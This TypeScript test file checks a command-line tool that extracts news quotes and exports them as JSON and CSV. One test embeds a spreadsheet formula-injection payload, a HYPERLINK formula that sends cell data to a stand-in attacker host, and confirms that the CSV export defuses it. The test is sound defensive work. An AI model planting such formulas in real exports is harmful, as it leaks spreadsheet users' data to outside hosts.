import { execFile } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { PassThrough } from 'node:stream';
import { promisify } from 'node:util';
import { beforeAll, describe, expect, it } from 'vitest';
import { loadDocument } from '../../../src/corpus/load-document.ts';
import { Engine } from '../../../src/engine/engine.ts';
import { silentLogger } from '../../../src/logger.ts';
import { runCli } from '../../../src/platforms/console/cli.ts';
import { runConsole } from '../../../src/platforms/console/console.ts';
import { seedEngine } from '../../support/seed-engine.ts';

const run = promisify(execFile);
const ROOT = path.resolve(import.meta.dirname, '../../..');

let engine: Engine;
beforeAll(async () => {
  engine = await seedEngine();
});

async function cli(words: string[], flags: { json?: boolean; csv?: boolean } = {}) {
  let out = '';
  const code = await runCli(engine, words, {
    json: !!flags.json,
    csv: !!flags.csv,
    color: false,
    logger: silentLogger(),
    write: (t) => (out += t),
  });
  return { code, out };
}

describe('one-shot CLI', () => {
  it('prints the answer model as JSON with the documented fields', async () => {
    const { code, out } = await cli(['quote', 'Putin', 'Bucha'], { json: true });
    expect(code).toBe(0);
    const answer = JSON.parse(out);
    expect(answer).toMatchObject({ command: 'quote', query: 'Putin Bucha' });
    expect(answer.results[0]).toEqual(
      expect.objectContaining({
        outlet: expect.any(String),
        headline: expect.any(String),
        url: expect.any(String),
        excerpts: expect.any(Array),
      }),
    );
    expect(answer.results[0].excerpts[0]).toEqual(
      expect.objectContaining({ text: expect.any(String), speaker: 'Vladimir Putin', paragraph: expect.any(Number) }),
    );
    expect(answer.noMatch).toEqual(expect.any(Array));
  });

  it('exports every quote as JSON rows', async () => {
    const { out } = await cli(['quotes'], { json: true });
    const rows = JSON.parse(out);
    expect(rows.length).toBe(engine.sources().quotes);
    expect(rows).toContainEqual(
      expect.objectContaining({
        article: '000_91348ebda5e4144c.md',
        outlet: 'The National',
        speaker: 'Vladimir Putin',
        mention: 'Mr Putin',
        cue: 'said',
        text: expect.stringContaining('village of Bucha'),
      }),
    );
  });

  it('exports every quote as CSV with a header', async () => {
    const { out } = await cli(['quotes'], { csv: true });
    const lines = out.trim().split('\n');
    expect(lines[0]).toBe('"article","outlet","headline","url","published","paragraph","text","speaker","mention","cue"');
    expect(out).toContain('village of Bucha');
  });

  it('exports headlines and quotes that look like spreadsheet formulas as text (a leading single quote)', async () => {
    const article = [
      '---',
      'outlet: Quay Post',
      'title: =HYPERLINK("https://evil.example/?q="&A1,"Ferry fares")',
      'published: 2024-03-13',
      '---',
      '"@SUM(1+1) is what the ferry chief wrote on the board," Lena Voss said on Monday.',
    ].join('\n');
    const formulas = new Engine({
      articles: loadDocument('formulas.md', Buffer.from(article), { markdown: true }).articles,
      skipped: [],
      warnings: [],
    });
    let out = '';
    await runCli(formulas, ['quotes'], { json: false, csv: true, color: false, logger: silentLogger(), write: (t) => (out += t) });
    expect(out).toContain('"\'=HYPERLINK(""https://evil.example/?q=""&A1,""Ferry fares"")"');
    expect(out).toContain('"\'@SUM(1+1) is what the ferry chief wrote on the board,"');
    expect(out).not.toMatch(/(^|,)"[=+\-@]/m);
  });

  it('exits 1 with the message for a bad query, 2 for an unknown command', async () => {
    expect((await cli(['search', '"Bucha'])).code).toBe(1);
    const unknown = await cli(['/frobnicate', 'x']);
    expect(unknown.code).toBe(2);
    expect(unknown.out).toContain('There is no /frobnicate command');
  });

  it('runs from npm with --corpus pointing at another folder and reports skipped files', async () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'corpus-'));
    writeFileSync(
      path.join(dir, 'note.txt'),
      'Mayor opens bridge\n\nPublished March 3, 2021\n\n"It is a great day for the city," Mayor Jane Doe said at the opening.\n',
    );
    writeFileSync(path.join(dir, 'broken.md'), '---\noutlet: [unclosed\n---\nText.\n');
    const { stdout } = await run('npx', ['tsx', 'src/main.ts', '--cli', '--corpus', dir, 'sources'], {
      cwd: ROOT,
      env: { ...process.env, LOG_LEVEL: 'silent' },
    });
    expect(stdout).toMatch(/1 article from 1 outlet/);
    expect(stdout).toContain('note.txt (no metadata)');
    expect(stdout).toMatch(/Skipped 1 file:\n {2}broken\.md: /);
  }, 60_000);
});

describe('start-up errors', () => {
  it('says plainly that the corpus folder is missing, without a stack trace', async () => {
    const failed = await run('npx', ['tsx', 'src/main.ts', '--cli', '--corpus', '/no/such/folder', 'sources'], {
      cwd: ROOT,
      env: { ...process.env, LOG_LEVEL: 'silent' },
    }).catch((e: { code: number; stderr: string }) => e);
    expect('code' in failed && failed.code).toBe(1);
    expect('stderr' in failed && failed.stderr).toContain(
      'corpus folder /no/such/folder does not exist or is not a folder (set --corpus or CORPUS_DIR)',
    );
    expect('stderr' in failed && failed.stderr).not.toContain('    at ');
  }, 60_000);
});

describe('interactive console', () => {
  it('answers typed commands until /exit', async () => {
    const input = new PassThrough();
    const output = new PassThrough();
    let text = '';
    output.on('data', (d) => (text += String(d)));
    const done = runConsole(engine, { input, output, color: false, logger: silentLogger() });
    input.write('/quote Putin Bucha\n');
    input.write('/nope\n');
    input.write('/exit\n');
    await done;
    expect(text).toContain('provocation in the village of [Bucha]');
    expect(text).toContain('There is no /nope command');
  });

  it('answers a line without a command word with /quote', async () => {
    const input = new PassThrough();
    const output = new PassThrough();
    let text = '';
    output.on('data', (d) => (text += String(d)));
    const done = runConsole(engine, { input, output, color: false, logger: silentLogger() });
    input.write('Putin Bucha\n');
    input.end();
    await done;
    expect(text).toContain('/quote Putin Bucha');
    expect(text).toContain('provocation in the village of [Bucha]');
  });
});
